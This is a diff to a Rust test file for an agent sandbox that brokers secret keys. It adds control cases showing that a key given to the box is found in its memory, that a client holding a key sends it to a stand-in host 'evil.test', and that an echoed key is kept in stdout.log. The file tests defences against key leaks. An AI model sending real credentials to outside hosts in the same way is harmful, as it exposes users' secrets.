@@ -2,6 +2,7 @@
 #![expect(clippy::unwrap_used, reason = "a test fails by panicking, also in the functions beside it")]
 
 mod requests;
+mod together;
 mod words;
 
 use std::process::Command;
@@ -211,6 +212,13 @@ fn escape_no_process_of_the_box_has_the_key_in_its_memory_and_the_broker_has_not
     assert!([KEY, other, of_a_file].iter().all(|needle| memory_holds(supervisor, needle)));
     drop(started.stdin());
     let _ran = started.finish().expect_success();
+    // A key that is given to the box is found in it by the same search.
+    let mut started = start(&["--secret-env".to_owned(), "TOKEN".to_owned()]);
+    let supervisor = started.pid();
+    assert!(wait_until(Duration::from_secs(20), || in_the_box(supervisor).iter().any(|pid| comm(*pid) == "sleep")));
+    assert!(in_the_box(supervisor).into_iter().any(|pid| memory_holds(pid, KEY)));
+    drop(started.stdin());
+    let _ran = started.finish().expect_success();
     // Without keys the broker has nothing of the host's either.
     let mut started =
         start(&["--allow".to_owned(), "web.test".to_owned(), "--secret-file".to_owned(), "FILE".to_owned()]);
@@ -240,6 +248,16 @@ print(get(port, 'X-Api-Key: theirs', 'x-api-key: again', 'Authorization: Bearer 
         "{heard}"
     );
     assert_eq!(heard.matches("x-api-key").count(), 1, "{heard}");
+    // Where no key is added, the box says who it is as it likes.
+    let mut control = scene.home.run();
+    let rule = format!("https://api.test:{}/*", scene.server.port());
+    control.args(["-q", "--allow", &rule]).args(&scene.flags[2..]);
+    let ran = scene.python(&mut control, script).expect_success();
+    let heard = scene.server.heard().split_off(1).join("");
+    assert!(
+        ran.stdout == "answered\n" && heard.contains("Bearer theirs") && heard.contains("session=theirs"),
+        "{heard}"
+    );
 }
 
 /// A redirect is the client's to follow, and the key does not go where it leads.
@@ -266,6 +284,12 @@ print(ask(b'GET / HTTP/1.1\\r\\nHost: evil.test:{0}\\r\\nX-Api-Key: ' + os.envir
     assert_eq!(scene.server.heard().len(), 1);
     let heard = other.heard();
     assert!(heard.contains("evil.test") && !heard.contains(KEY), "{heard}");
+    // A client that holds the key takes it there.
+    let mut control = scene.home.run();
+    control.args(["-q", "--secret-env", "TOKEN", "--allow", &format!("evil.test:{}", other.port())]).env("TOKEN", KEY);
+    control.args(["--add-host", "evil.test:127.0.0.1"]);
+    let _ran = scene.python(&mut control, &script.replace("first = get(port)", "first = ''")).expect_success();
+    assert!(other.heard().contains(KEY));
 }
 
 #[test]
@@ -328,4 +352,12 @@ fn escape_an_echo_is_in_no_log_of_agentds() {
         let kept = std::fs::read(scene.home.path().join(&path)).unwrap_or_default();
         assert!(!kept.windows(KEY.len()).any(|window| window == KEY.as_bytes()), "{}", path.display());
     }
+    // What agentd was not told is a key, it keeps; the same search finds it.
+    let mut control = scene.home.run();
+    let _ran = run(control.args(["-q", "--", "echo", KEY])).expect_success();
+    let holds = |path: &std::path::PathBuf| {
+        let kept = std::fs::read(scene.home.path().join(path)).unwrap_or_default();
+        kept.windows(KEY.len()).any(|window| window == KEY.as_bytes())
+    };
+    assert!(scene.home.paths().iter().any(|path| path.ends_with("stdout.log") && holds(path)));
 }
